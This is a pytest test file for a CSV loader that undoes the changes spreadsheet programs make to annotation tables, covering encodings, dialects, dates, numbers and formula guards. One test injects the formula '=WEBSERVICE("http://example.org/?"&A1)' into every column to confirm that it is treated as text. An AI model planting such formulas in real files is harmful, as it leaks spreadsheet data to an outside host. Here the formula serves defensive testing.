"""Tables as spreadsheets leave them: every dialect is read, what a program changed is undone and said, what a person got wrong is not."""

import csv
import io
import re
import shutil
import time
import warnings

import pandas as pd
import pytest
from conftest import SLUG, begun, edition_of
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as some

from closereading.common.errors import InputError, InputWarning
from closereading.edition import corrected, loading, spreadsheet, spreadsheet_damage
from closereading.edition.format import COLUMNS
from closereading.workflow import annotate, begin

TEXT = (
    "Łódź votes\n\n“We go on January 10,” said Gérald Núñez, the mayor. He said that 2,000 people — not 007 — voted… "
    "The vote was 5-4, said Ms. True. @nasa said that it rained.\n\nThe vote was lost, said Ahmet Yılmaz 😀 at 10:30. "
    "He said that the vote was late.\n"
)


@pytest.fixture(scope="module")
def ballot(tmp_path_factory):
    """A folder to be corrected, as `begin` makes it."""
    return begun(tmp_path_factory.mktemp("ballot"), "vote", TEXT)


@pytest.fixture
def ballot_copy(ballot, tmp_path):
    return shutil.copytree(ballot, tmp_path / "vote")


def table(folder, name):
    with (folder / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def written(rows, separator=",", end="\r\n", **options):
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, rows[0], delimiter=separator, lineterminator=end, **options)
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()


def write(folder, name, rows, **options):
    (folder / f"{name}.csv").write_bytes(("\ufeff" + written(rows, **options)).encode())


def same(one, other):
    for name in COLUMNS:
        pd.testing.assert_frame_equal(getattr(one, name), getattr(other, name))
    assert one.raw == other.raw and one.meta == other.meta


def test_the_article_of_the_book_needs_no_mending():
    assert corrected.read_edition(SLUG)[1] == []
    with warnings.catch_warnings():
        warnings.simplefilter("error", InputWarning)
        loading.load(SLUG)


DIALECTS = {
    "UTF-8": lambda rows: written(rows).encode(),
    "UTF-8 with its mark": lambda rows: written(rows).encode("utf-8-sig"),
    "UTF-16, tabs": lambda rows: written(rows, "\t").encode("utf-16"),
    "UTF-16 big end first": lambda rows: b"\xfe\xff" + written(rows, "\t").encode("utf-16-be"),
    "semicolons": lambda rows: written(rows, ";").encode(),
    "tabs": lambda rows: written(rows, "\t").encode(),
    "sep=;": lambda rows: ("sep=;\r\n" + written(rows, ";")).encode(),
    "sep=; with the mark": lambda rows: ("\ufeffsep=;\n" + written(rows, ";", "\n")).encode(),
    "lines end in LF": lambda rows: written(rows, end="\n").encode(),
    "lines end in CR": lambda rows: written(rows, end="\r").encode(),
    "everything quoted": lambda rows: written(rows, quoting=csv.QUOTE_ALL).encode(),
    "text quoted": lambda rows: written(
        [{k: int(v) if k in ("start", "end") else v for k, v in row.items()} for row in rows],
        quoting=csv.QUOTE_NONNUMERIC,
    ).encode(),
    "empty columns": lambda rows: "".join(line + ",,\r\n" for line in written(rows).splitlines()).encode(),
    "an empty column inside": lambda rows: written([{"id": row["id"], "": "", **row} for row in rows]).encode(),
    "empty rows": lambda rows: written(
        [rows[0], dict.fromkeys(rows[0], ""), *rows[1:], dict.fromkeys(rows[0], " ")]
    ).encode(),
    "white space": lambda rows: written(
        [{k: v if k == "text" else f" {v}\u00a0" for k, v in row.items()} for row in rows]
    ).encode(),
    "12.0": lambda rows: written(
        [{k: f"{v}.0" if k == "start" else f"{v},00" if k == "end" else v for k, v in row.items()} for row in rows]
    ).encode(),
    "columns in another order": lambda rows: written([dict(reversed(row.items())) for row in rows]).encode(),
}


@pytest.mark.parametrize("dialect", DIALECTS)
def test_every_dialect_is_read_without_a_word(ballot_copy, ballot, dialect):
    for name in COLUMNS:
        if rows := table(ballot_copy, name):
            (ballot_copy / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
    loaded, notices = corrected.read_edition(ballot_copy)
    assert notices == []
    same(loaded, edition_of(ballot))


def test_the_row_named_is_the_spreadsheets(ballot_copy):
    rows = table(ballot_copy, "entities")
    rows[1]["type"] = "COUNTRY"
    (ballot_copy / "entities.csv").write_bytes(("sep=;\r" + written(rows, ";", "\r")).encode())
    with pytest.raises(InputError, match="entities.csv, row 3: found type 'COUNTRY'"):
        edition_of(ballot_copy)


def test_windows_1252_is_said_and_what_it_lost_is_given_back(ballot_copy, ballot):
    for name in COLUMNS:
        (ballot_copy / f"{name}.csv").write_bytes(
            (ballot_copy / f"{name}.csv").read_bytes().decode("utf-8-sig").encode("cp1252", "replace")
        )
    loaded, notices = corrected.read_edition(ballot_copy)
    same(loaded, edition_of(ballot))
    assert any("Windows-1252" in line and "CSV UTF-8" in line for line in notices)
    assert any("'?ódź'" in line or "'?ód?'" in line for line in notices)


@pytest.mark.parametrize("page", spreadsheet.CODE_PAGES)
def test_utf_8_that_was_read_as_something_else_is_read_back(ballot_copy, ballot, page):
    for name in COLUMNS:
        data = (ballot_copy / f"{name}.csv").read_bytes()
        misread = "".join(bytes([byte]).decode(page, "ignore") or chr(0xF100 + byte) for byte in data)
        (ballot_copy / f"{name}.csv").write_bytes(misread.encode("utf-8-sig"))
    loaded, notices = corrected.read_edition(ballot_copy)
    same(loaded, edition_of(ballot))
    assert all("UTF-8 that was read as" in line for line in notices) and len(notices) == len(COLUMNS)


@pytest.mark.parametrize(
    "data, found",
    [
        (b"\xff\xfei\0d\0", "columns id"),
        (b"\xff\xfei", "UTF-16 that breaks off"),
        (b"PK\x03\x04\0\0\xff", "a Word or other zipped"),
        (b"%PDF-1.7\xff", "a PDF"),
        (b"", "no text"),
        (b"\xff\xfei\0\0\0", "U\\+0000"),
        (b"id\n\xe9", "byte 0xe9"),
    ],
)
def test_what_is_no_table_gets_one_line(ballot_copy, data, found):
    (ballot_copy / "entities.csv").write_bytes(data)
    with pytest.raises(InputError, match=f"entities.csv.*{found}"):
        edition_of(ballot_copy)


def test_a_nul_far_into_a_table_is_named(copy):
    path = copy / "entities.csv"
    path.write_bytes(path.read_bytes().replace(b"Kazakhstan", b"Kazakh\0stan"))
    with pytest.raises(InputError, match="entities.csv"):
        edition_of(copy)


CHANGED = [
    ('"We go"', "“We go”", spreadsheet_damage.SPELLING), ("Moscow's", "Moscow’s", spreadsheet_damage.SPELLING), ("a - b", "a — b", spreadsheet_damage.SPELLING),
    ("a–b", "a--b", spreadsheet_damage.SPELLING), ("so...", "so…", spreadsheet_damage.SPELLING), ("so…", "so...", spreadsheet_damage.SPELLING), ("a b", "a\u00a0 b", spreadsheet_damage.SPELLING),
    ("a\nb", "a\r\nb", spreadsheet_damage.SPELLING), ("ab", "a\tb", spreadsheet_damage.SPELLING), ("ab", "a\x07b", spreadsheet_damage.SPELLING), ("?ód?", "Łódź", spreadsheet_damage.SPELLING),
    ("Lódz", "Łódź", spreadsheet_damage.SPELLING), ("\ufffd\ufffdd", "Łód", spreadsheet_damage.SPELLING), ("??", "😀", spreadsheet_damage.SPELLING), ("\ufffd", "é", spreadsheet_damage.SPELLING),
    ("â€œWeâ€\x9d", "“We”", spreadsheet_damage.SPELLING), ("â€œWeâ€", "“We”", spreadsheet_damage.SPELLING), ("‚ÄúWe‚Äù", "“We”", spreadsheet_damage.SPELLING), ("Ã  la", "à la", spreadsheet_damage.SPELLING),
    ("e\u0301te\u0301", "été", spreadsheet_damage.SPELLING), ("été", "e\u0301te\u0301", spreadsheet_damage.SPELLING), ("'-said", "-said", spreadsheet_damage.GUARD), ("'=é", "=é", spreadsheet_damage.GUARD),
    ("'=?", "=é", spreadsheet_damage.SPELLING), ("2000", "2,000", spreadsheet_damage.NUMBER), ("7", "007", spreadsheet_damage.NUMBER), ("1.5", "1.50", spreadsheet_damage.NUMBER), ("1,5", "1.50", ""),
    ("1E+05", "100000", spreadsheet_damage.NUMBER), ("100000", "1E5", spreadsheet_damage.NUMBER), ("1.23457E+19", "12345678901234567890", spreadsheet_damage.NUMBER), ("1", "+1", spreadsheet_damage.NUMBER),
    ("3.14159265358979", "3.14159265358979323846", spreadsheet_damage.NUMBER), ("0.05", "5%", spreadsheet_damage.NUMBER), ("2", "2,000", spreadsheet_damage.NUMBER),
    ("10-Jan", "January 10", spreadsheet_damage.DATE), ("Jan-10", "January 10", spreadsheet_damage.DATE), ("2022-01-10", "January 10", spreadsheet_damage.DATE),
    ("1/10/2022", "January 10", spreadsheet_damage.DATE), ("10/01/22", "January 10", spreadsheet_damage.DATE), ("44571", "January 10", spreadsheet_damage.DATE), ("10. Jan", "January 10", spreadsheet_damage.DATE),
    ("Jan-22", "January 2022", spreadsheet_damage.DATE), ("01/01/22", "January 2022", spreadsheet_damage.DATE), ("11-Sep", "9/11", spreadsheet_damage.DATE), ("4-May", "5-4", spreadsheet_damage.DATE),
    ("10:30:00", "10:30", spreadsheet_damage.DATE), ("3:00 PM", "3 pm", spreadsheet_damage.DATE), ("TRUE", "True", spreadsheet_damage.TRUTH), ("#NAME?", "-said", spreadsheet_damage.ERROR), ("#VALUE!", "=x", spreadsheet_damage.ERROR),
    ("#REF!", "x", spreadsheet_damage.ERROR), ("Err:508", "=x", spreadsheet_damage.ERROR), ("#N/A", "=x", spreadsheet_damage.ERROR), ("#NOM?", "=x", spreadsheet_damage.ERROR), ("#####", "January 10", spreadsheet_damage.ERROR),
    ("3", "=SUM(1,2)", spreadsheet_damage.FORMULA), ("x" * 32_767, "x" * 40_000, spreadsheet_damage.CUT), ("'=" + "x" * 32_765, "=" + "x" * 40_000, spreadsheet_damage.CUT),
    # what no program does unasked
    ("Moscow", "Moscow,", ""), ("Moscow,", "Moscow", ""), ("Moscow", "Moscow”", ""), ("“Moscow", "Moscow", ""), ("Moscow", "Moscow.", ""), ("a", "a ", ""),
    ("wait...", "wait..", ""), ("wait", "wait…", ""), ("oscow", "Moscow", ""), ("Moskva", "Moscow", ""), ("moscow", "Moscow", ""), ("5", "5.", ""), ("5", "5%", ""),
    ("5", "$5", ""), ("2001", "2,000", ""), ("8", "007", ""), ("3.14", "3.14159", ""), ("11-Jan", "January 10", ""), ("10-Feb", "January 10", ""),
    ("10-Jan", "January 10,", ""), ("10-Jan", "January", ""), ("10-Jan", "January 10, 2022", ""), ("44572", "January 10", ""), ("1/10/2021", "January 10, 2022", ""),
    ("FALSE", "true", ""), ("TRUE", "truth", ""), ("#Kazakhstan", "Kazakhstan", ""), ("#1", "1", ""), ("3", "SUM", ""), ("x" * 32_766, "x" * 40_000, ""),
    ("1e400", "1", ""), ("１２", "12", ""), ("?", "a", ""), ("e", "a", ""), ("9" * 9999, "1", ""), ("", "a", ""),
]  # fmt: skip


@pytest.mark.parametrize("cell, words, kind", CHANGED)
def test_what_a_program_did_is_told_from_what_a_person_did(cell, words, kind):
    assert spreadsheet_damage.change(cell, words) == kind


FAULTS = [
    ("1", None, None),
    (None, "1", None),
    ("-3", "4", None),
    ("1e400", "9", None),
    ("１２", "19", None),
    ("0", "99999", None),
    ("=1+1", "9", None),
    ("9" * 5000, "9", None),
    ("", "9", None),
    ("9", "", None),
    ("1.000", "9", None),
    (None, None, "=SUM(1,2)"),
    (None, None, "Someone"),
    ("5", "5", None),
]


@pytest.mark.parametrize("start, end, text", FAULTS)
def test_wrong_places_and_words_stay_faults(ballot_copy, start, end, text):
    rows = table(ballot_copy, "entities")
    rows[0].update({key: value for key, value in (("start", start), ("end", end), ("text", text)) if value is not None})
    write(ballot_copy, "entities", rows)
    with pytest.raises(InputError, match="entities.csv, row 2: ") as caught:
        edition_of(ballot_copy)
    assert all("to mend:" in line for line in str(caught.value).splitlines())


def test_a_span_one_off_is_a_fault_on_either_side_for_every_row(ballot_copy):
    """Wherever an offset is moved by one, no repair hides it."""
    rows = table(ballot_copy, "entities")
    for place, row in enumerate(rows):
        for name, by in (("start", -1), ("start", 1), ("end", -1), ("end", 1)):
            moved = [dict(one) for one in rows]
            moved[place][name] = str(int(row[name]) + by)
            write(ballot_copy, "entities", moved)
            with pytest.raises(InputError, match=f"row {place + 2}: .*(set start,end to|copy text|a whole number)"):
                edition_of(ballot_copy)


@pytest.mark.parametrize("name", COLUMNS)
def test_a_formula_in_any_column_is_text(ballot_copy, name):
    rows = table(ballot_copy, name)
    for column in rows[0] if rows else []:
        changed = [dict(one) for one in rows]
        changed[0][column] = '=WEBSERVICE("http://example.org/?"&A1)'
        write(ballot_copy, name, changed)
        try:
            loaded, _ = corrected.read_edition(ballot_copy)
        except InputError as error:
            assert "row 2: found " in str(error) and "to mend:" in str(error)
        else:
            assert column in ("name", "entity", "scheme", "rule", "sentence"), column


def test_dates_and_errors_in_columns_of_words_are_undone_or_named(copy):
    path = copy / "entities.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("January 10,DATE,January 10", "10-Jan,DATE,10-Jan"), encoding="utf-8")
    loaded, notices = corrected.read_edition(copy)
    assert loaded.entities[loaded.entities.id == "e100"][["text", "entity"]].values.tolist() == [
        ["January 10", "January 10"]
    ]
    assert len(notices) == 2 and all(
        "row 101" in line and "'10-Jan'" in line and "'January 10'" in line for line in notices
    )
    for cell, said in (("10-Jan", "a date"), ("#NAME?", "an error")):
        path.write_text(
            text.replace("several days,DATE,several days", f"several days,DATE,{cell}") if said == "a date" else text,
            encoding="utf-8",
        )
        if said == "an error":
            other = copy / "questions.csv"
            other.write_text(
                other.read_text(encoding="utf-8").replace("Will Kazakhstan repeat the Ukrainian scenario?", cell),
                encoding="utf-8",
            )
        with pytest.raises(
            InputError, match=f"found (entity|gloss) '{cell.replace('?', '.')}', as a spreadsheet writes {said}"
        ):
            edition_of(copy)


def test_a_date_that_a_person_chose_stays(copy):
    path = copy / "entities.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace("January 10,DATE,January 10", "January 10,DATE,2022-01-10"),
        encoding="utf-8",
    )
    loaded, notices = corrected.read_edition(copy)
    assert "2022-01-10" in set(loaded.entities.entity) and notices == []


def test_load_repairs_nothing(copy):
    path = copy / "sentences.csv"
    path.write_bytes(path.read_bytes().replace("’".encode(), b"'"))
    with pytest.raises(InputError, match=r"sentences.csv, row [0-9]+: found .*'.*; expected what stands there, .*’"):
        loading.load(copy)
    assert any(
        re.search("sentences.csv, row [0-9]+: found text .*taken: .*’", line)
        for line in corrected.read_edition(copy)[1]
    )


def test_load_warns_of_a_file_in_another_character_set(copy):
    path = copy / "questions.csv"
    path.write_bytes(path.read_text(encoding="utf-8").replace("scenario", "scénario").encode("cp1252"))
    with pytest.warns(InputWarning, match="questions.csv: found no UTF-8.*taken: Windows-1252"):
        assert "scénario" in loading.load(copy).questions.gloss[0]


def test_a_long_file_is_read_in_time(tmp_path):
    words = " ".join(f"Name{number}" for number in range(100_000))
    path = tmp_path / "long.txt"
    path.write_text("Anna said that it rained.", encoding="utf-8")
    annotate.annotate([path], tmp_path / "to")
    folder = tmp_path / "to" / "long"
    rows, place = [], 0
    for number, word in enumerate(words.split()):
        rows.append(
            (
                f"e{number}",
                place,
                place + len(word),
                word.replace("Name", "Näme"),
                "PERSON",
                word,
                "",
                "readers",
                "certain",
                "known name",
            )
        )
        place += len(word) + 1
    path = folder / "entities.csv"
    pd.DataFrame(rows, columns=["id", *COLUMNS["entities"], "by", "certainty", "rule"]).to_csv(path, index=False)
    started = time.perf_counter()
    found = spreadsheet.read_table(path, ["id", *COLUMNS["entities"], "by", "certainty"], ["rule", "sentence"])
    assert len(found[0]) == 100_000
    with pytest.raises(InputError):
        edition_of(folder)
    assert time.perf_counter() - started < 60


def test_a_paragraph_longer_than_a_cell_may_be(tmp_path):
    path = tmp_path / "long.txt"
    path.write_text("Anna said that it rained and rained. " * 8_000, encoding="utf-8")
    ballot_copy = begin.begin(path)
    rows = table_of(ballot_copy / "blocks.csv")
    assert len(rows[0]["text"]) > 131_072
    rows[0]["text"] = rows[0]["text"][:32_767]
    write(ballot_copy, "blocks", rows)
    loaded, (line,) = corrected.read_edition(ballot_copy)
    assert "the end cut off" in line and loaded.blocks.text.iloc[0] == loaded.raw.strip()


def table_of(path):
    csv.field_size_limit(10**9)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


# Any text, changed as any spreadsheet changes it, is the text again.

CURLY = str.maketrans("“”‘’—–…", "\"\"''--\x00")
WAYS = [
    lambda text: text,
    lambda text: text.translate(CURLY).replace("\x00", "..."),
    lambda text: text.replace("\u00a0", " "),
    lambda text: text.encode("cp1252", "replace").decode("cp1252"),
    lambda text: "".join(bytes([b]).decode("cp1252", "ignore") or chr(b) for b in text.encode()),
    lambda text: text.encode().decode("mac_roman"),
    lambda text: text.replace("\r\n", "\n"),
    lambda text: "'" + text if spreadsheet.guarded(text) else text,
]
SAMPLES = [
    "“",
    "”",
    "’",
    "—",
    "…",
    "\u00a0",
    " ",
    "a",
    "B.",
    "é",
    "Ł",
    "😀",
    "-",
    "=1",
    "\n",
    "2,000",
    "007",
    "?",
    ",",
    "中",
    "й",
    "January 10",
]


@settings(max_examples=300, deadline=None)
@given(some.lists(some.sampled_from(SAMPLES), min_size=1, max_size=12).map("".join), some.sampled_from(WAYS))
def test_any_text_changed_by_a_spreadsheet_is_recognised(words, way):
    cell = way(words)
    assert cell == words or spreadsheet_damage.change(cell, words)


@settings(max_examples=300, deadline=None)
@given(some.text(some.sampled_from("ab ,.”é’-"), min_size=2, max_size=12), some.integers(0, 11), some.integers(1, 3))
def test_no_text_loses_letters_or_commas_unseen(words, place, length):
    """A cell that lacks letters, commas or stops of the words is never taken for the words."""
    cell = words[:place] + words[place + length :]
    missing = words[place : place + length]
    if any(char in "ab,.é" for char in missing) and sum(map(cell.count, "ab,.é")) < sum(map(words.count, "ab,.é")):
        assert not spreadsheet_damage.change(cell, words)


@settings(max_examples=200, deadline=None)
@given(some.text(max_size=40), some.text(max_size=40))
def test_hostile_cells_are_answered(cell, words):
    assert isinstance(spreadsheet_damage.change(cell, words), str)
    spreadsheet_damage.places(cell or "x", words, 0, len(words))


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    some.lists(
        some.sampled_from(
            [
                "“It rains,” said Zoë Łukasz.",
                "@nasa said that =1 is 2,000.",
                "On January 10 it rained in Kraków…",
                "-said no one — ever.",
                "TRUE, said Ms. May on May 5.",
                "'It is 1/2,' said Émile 😀.",
            ]
        ),
        min_size=1,
        max_size=5,
    ),
    some.sampled_from(WAYS[:-1]),
    some.sampled_from(sorted(DIALECTS)),
)
def test_any_edition_changed_by_a_spreadsheet_loads_as_it_was(tmp_path_factory, sentences, way, dialect):
    path = tmp_path_factory.mktemp("any") / "any.txt"
    path.write_text("\n".join(sentences), encoding="utf-8", newline="")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", InputWarning)
        ballot_copy = begin.begin(path)
        before = edition_of(ballot_copy)
        for name in COLUMNS:
            rows = table(ballot_copy, name)
            for row in rows:
                for column in ("text", "name", "entity", "role", "pronoun"):
                    if row.get(column):
                        row[column] = way(row[column])
            if rows:
                (ballot_copy / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
        same(edition_of(ballot_copy), before)


def test_guards_come_off_as_they_were_put_on():
    for text in ("=1", "'=1", "''x", "@a", "'quoted'", "Ndrangheta", "-", "＝1", "\t1"):
        (cell,) = pd.read_csv(
            io.StringIO(spreadsheet.csv(pd.DataFrame({"a": [text]})).removeprefix("\ufeff")),
            keep_default_na=False,
            dtype=str,
        ).a
        assert spreadsheet.unguarded(cell) == text
    assert spreadsheet.unguarded("'Ndrangheta") == "'Ndrangheta"


@pytest.mark.parametrize(
    "words, cell", [("a" * 20_000, "a" * 5_000 + "?"), ("’" * 20_000, "'"), ("😀" * 10_000, "?" * 9_999)]
)
def test_words_that_are_none_are_answered_in_time(words, cell):
    started = time.perf_counter()
    spreadsheet_damage.places(cell, words, 0, len(words))
    spreadsheet_damage.change("?" * len(words), words)
    assert time.perf_counter() - started < 20
